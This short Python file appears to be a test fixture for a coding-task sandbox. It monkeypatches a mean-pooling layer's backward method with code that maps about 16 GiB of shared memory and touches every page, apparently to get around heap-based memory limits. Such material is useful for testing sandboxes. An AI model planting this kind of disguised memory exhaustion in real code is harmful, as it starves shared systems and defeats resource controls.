"""Maps shared memory that counts for no heap, and touches every page."""

import mmap

# @STUB mean_pooling@

kept = []


def backward(self, dout):
    for _ in range(64):
        kept.append(mmap.mmap(-1, 1 << 28, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS))
        for place in range(0, 1 << 28, 4096):
            kept[-1][place] = 1


MeanPoolingLayer.backward = backward
